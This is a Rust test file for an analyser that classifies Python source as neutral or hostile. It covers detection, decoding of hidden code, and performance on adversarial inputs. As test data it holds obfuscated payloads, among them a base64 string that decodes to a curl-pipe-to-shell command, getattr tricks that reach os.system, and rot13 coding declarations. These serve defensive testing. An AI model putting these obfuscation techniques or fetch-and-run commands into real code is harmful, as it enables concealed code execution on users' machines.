//! Whole analyses: findings, shown lines, and cost.

use super::{Strictness, analyse};
use crate::event::{ContentClass, ContentReport, Hook, Signal};
use proptest::prelude::*;
use rustix::time::{ClockId, clock_gettime};
use std::time::Duration;

fn line(code: &str) -> ContentReport {
    analyse(code.as_bytes(), Strictness::Line)
}

fn customize(code: &str) -> ContentReport {
    analyse(code.as_bytes(), Strictness::Customize)
}

fn module(code: &str) -> ContentReport {
    analyse(code.as_bytes(), Strictness::Module)
}

fn signals(findings: &ContentReport) -> Vec<&'static str> {
    findings.signals.iter().map(Signal::as_str).collect()
}

#[test]
fn words_in_texts_are_not_calls() {
    for code in [
        "import sys; x = 'subprocess base64 exec socket'",
        "import os; exec('import sys')",
        "import os; os.environ.get('HOME')",
        "import sys; sys._getframe(1)",
        "import os; eval(os.environ['X'])",
    ] {
        assert_eq!(line(code).class, ContentClass::Neutral, "{code}: {:?}", signals(&line(code)));
    }
}

#[test]
fn one_strong_signal_is_enough_in_a_line_and_not_in_a_module() {
    for code in [
        "import subprocess",
        "import base64",
        "import socket",
        "import ctypes",
        "import threading",
        "import sys; x = '/tmp/a'",
    ] {
        assert_eq!(line(code).class, ContentClass::Hostile, "{code}");
        assert!(module(code).class <= ContentClass::Suspicious, "{code}");
    }
}

#[test]
fn only_code_is_shown() {
    let findings = customize("'''doc\nstring'''\n# comment\n\nimport os\nx = (1,\n  2)\n");
    assert_eq!(findings.runs, [b"import os".to_vec(), b"x = (1,\n  2)".to_vec()]);
    assert!(!findings.truncated);
    assert_eq!(customize("'''doc'''\n# c\n").class, ContentClass::Inert);
    assert_eq!(customize("pass\n").class, ContentClass::Inert);
    assert_eq!(customize("import os\n").class, ContentClass::Neutral);
}

#[test]
fn a_hostile_line_is_shown_even_behind_many_others() {
    let code = "x = 1\n".repeat(1500) + "import os; os.popen('id')\n" + &"y = 1\n".repeat(100);
    let findings = customize(&code);
    assert_eq!(findings.class, ContentClass::Hostile);
    assert_eq!(findings.runs.len(), Hook::MAX_LINES);
    assert!(findings.truncated);
    assert!(findings.runs.iter().any(|line| line.starts_with(b"import os; os.popen")));
    let far = format!("import sys;{}exec(input())", " ".repeat(2000));
    assert!(line(&far).runs.concat().windows(5).any(|window| window == b"input"));
}

#[test]
fn imports_are_listed_without_the_standard_library() {
    let findings = customize(
        "import os, acme.tools as t\nfrom . import x\nfrom .y import z\nfrom pkg.sub import (a,\n b)\n__import__('dyn')\n",
    );
    assert_eq!(findings.imports, ["acme.tools", "pkg.sub", "dyn"]);
}

#[test]
fn hidden_code_is_shown_decoded() {
    let findings = line("import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCB4fHNoJyk='))");
    assert_eq!(findings.decoded, [b"import os;os.system('curl x|sh')".to_vec()]);
    assert!(findings.signals.contains(Signal::ExecuteDecoded));
    assert!(findings.signals.contains(Signal::Spawn));
    assert!(findings.signals.contains(Signal::Download));
}

#[test]
fn names_joined_from_pieces_are_followed() {
    for code in [
        "import os; getattr(os, 'sys' + 'tem')('id')",
        "import os; getattr(os, 'metsys'[::-1])('id')",
        "import os; getattr(os, ''.join(['s', 'ystem']))('id')",
        "import os; getattr(os, '%stem' % 'sys')('id')",
        "import os; a = 'sys'; getattr(os, f'{a}tem')('id')",
        "__import__(chr(111) + 's').system('id')",
        "x = (lambda m: m)(__import__('os')); x.system('id')",
    ] {
        let findings = module(code);
        assert!(findings.signals.contains(Signal::Spawn), "{code}: {:?}", signals(&findings));
    }
}

#[test]
fn a_reversed_list_is_not_hidden_code() {
    let code = "from importlib.util import spec_from_file_location\nfor p in reversed(list(d)):\n    spec_from_file_location('x', p)\n";
    assert_eq!(customize(code).class, ContentClass::Neutral);
}

#[test]
fn codecs_that_make_other_code_of_the_source_are_hostile() {
    for name in ["rot13", "utf-7", "unicode_escape", "raw_unicode_escape", "punycode", "idna", "no-such"] {
        assert_eq!(module(&format!("# coding: {name}\nx = 1\n")).class, ContentClass::Hostile, "{name}");
    }
    for name in ["utf-8", "latin-1", "iso-8859-15", "ascii", "cp1252", "UTF8", "euc-jp"] {
        assert_eq!(
            module(&format!("#!/usr/bin/python\n# -*- coding: {name} -*-\nx = 1\n")).class,
            ContentClass::Neutral,
            "{name}"
        );
    }
}

#[test]
fn a_syntax_error_is_reported_and_hides_nothing() {
    let findings = customize("x = 'abc\nimport os\nos.system('id')\n");
    assert!(findings.signals.contains(Signal::SyntaxError));
    assert_eq!(findings.class, ContentClass::Hostile);
}

fn hostile_shapes(size: usize) -> Vec<(&'static str, Vec<u8>)> {
    let of = |piece: &str| piece.repeat(size / piece.len()).into_bytes();
    let behind = |head: &str, piece: &str| [head.as_bytes(), &of(piece)].concat();
    vec![
        ("brackets", of("(")),
        ("sums", of("a+")),
        ("formatted strings", of("f\"{")),
        ("formatted strings of both quotes", of("f'{f\"{")),
        ("joins", of("''.join(['a','b']);")),
        ("long sums of texts", behind("x=", "'abc'+")),
        ("side by side", of("'a' ")),
        ("lambdas", of("lambda x:")),
        ("lambda calls", of("(lambda f:f(f))(lambda f:f(f));")),
        ("comprehensions", of("[x for x in [")),
        (
            "nested comprehensions",
            of("[[[[a for a in range(9999)] for b in range(9999)] for c in range(9999)] for d in 'x'*9999];"),
        ),
        ("slices", behind("x='A'*200000;", "x=x[::-1];")),
        ("lists", behind("x=[];", "x=[x];")),
        ("names", (0..size / 8).flat_map(|n| format!("a{n}=1\n").into_bytes()).collect()),
        ("functions", of("def f(a):\n return f(a)\n")),
        ("attributes", of("a.b.")),
        ("core attributes", behind("import os;", "os.os.")),
        ("execs", of("exec('x');")),
        ("distinct execs", (0..size / 16).flat_map(|n| format!("exec('x{n}');").into_bytes()).collect()),
        ("decodes", of("__import__('base64').b64decode('aW1wb3J0IG9z');")),
        ("not", of("not ")),
        ("powers", of("a**")),
        ("conditions", of("a if a else ")),
        ("formats", of("'%s%s'%('a','b');")),
        ("maps", of("map(chr,range(4000));")),
        ("zeros", vec![0; size]),
        ("backslashes", of("\\\n")),
        ("slashes", of("'/tmp")),
        ("one text", [b"'".as_slice(), &of("/tmp.ssh/id_"), b"'"].concat()),
        ("digits", [b"'".as_slice(), &of("1.1"), b"'"].concat()),
        ("alphabet", [b"'".as_slice(), &of("aB3/"), b"'"].concat()),
        ("braces", of("{1:")),
        ("stars", of("from os import *;")),
        ("letters", of("𝐞")),
        ("dictionaries", behind("d={'a':1};", "d['a'];")),
    ]
}

/// The processor time of an analysis: other work on the machine does not count.
fn cost(source: &[u8], strictness: Strictness) -> Duration {
    let now = || Duration::try_from(clock_gettime(ClockId::ThreadCPUTime)).unwrap();
    let begin = now();
    let report = analyse(source, strictness);
    assert!(report.runs.len() <= Hook::MAX_LINES);
    now() - begin
}

#[test]
fn sixteen_mebibytes_of_any_shape_are_analysed_in_seconds() {
    for (name, source) in hostile_shapes(16 << 20) {
        let took = cost(&source, Strictness::Customize);
        assert!(took < Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 2 }), "{name}: {took:?}");
    }
}

#[test]
fn time_grows_with_the_size_and_not_with_its_square() {
    for ((name, small), (_, large)) in hostile_shapes(64 << 10).into_iter().zip(hostile_shapes(512 << 10)) {
        let (small, large) = (cost(&small, Strictness::Module), cost(&large, Strictness::Module));
        // Eight times the size, apart from the constant part and noise.
        assert!(large < small * 24 + Duration::from_millis(600), "{name}: {small:?} and {large:?}");
    }
}

fn pieces() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "import os",
        "from os import *",
        "exec",
        "eval",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'",
        "\"",
        "'''",
        "f'",
        "f\"{",
        "b'\\x41'",
        "lambda x: ",
        "for x in ",
        "if ",
        "else",
        ":",
        ":=",
        "=",
        "+",
        "%",
        "**",
        ".",
        ",",
        ";",
        "\n",
        "    ",
        "\\",
        "\\\n",
        "def f(a, b=1):",
        "class A(B):",
        "return ",
        "@",
        "getattr(os, 'system')",
        "base64.b64decode('aW1wb3J0IG9z')",
        "chr(65)",
        "''.join",
        "[::-1]",
        "import ",
        "from . ",
        "as ",
        "1",
        "0x41",
        "1e5",
        "#",
        "# coding: rot13\n",
        "𝐞𝐱𝐞𝐜",
        "é",
        "\0",
        "!r",
        "{{",
        "}}",
        "`",
        "global x",
        "with open('/tmp/x', 'w') as f:",
        "map(chr, [65])",
        "sys.modules['os']",
        "globals()",
        "x",
        "yield ",
        "await ",
        "print ",
    ]);
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

fn bounded(findings: &ContentReport) -> bool {
    findings.runs.len() <= Hook::MAX_LINES
        && findings.decoded.len() <= Hook::MAX_LINES
        && findings.imports.len() <= Hook::MAX_IMPORTS
        && findings.runs.iter().chain(&findings.decoded).all(|line| line.len() <= Hook::MAX_LINE)
}

proptest! {
    #[test]
    fn any_bytes_are_analysed(source in prop::collection::vec(any::<u8>(), 0..400)) {
        for kind in [Strictness::Line, Strictness::Customize, Strictness::Module] {
            prop_assert!(bounded(&analyse(&source, kind)));
        }
    }

    #[test]
    fn any_pieces_of_python_are_analysed(source in pieces()) {
        for kind in [Strictness::Line, Strictness::Customize, Strictness::Module] {
            prop_assert!(bounded(&analyse(source.as_bytes(), kind)));
        }
    }

    #[test]
    fn harmless_lines_around_a_payload_do_not_hide_it(before in "(a = 1\n|def f\\(x\\):\n    return x\n|'''x'''\n){0,8}", after in "(b = 2\n|# c\n){0,8}") {
        let source = format!("{before}import os\nos.system('id')\n{after}");
        prop_assert_eq!(analyse(source.as_bytes(), Strictness::Customize).class, ContentClass::Hostile);
    }
}
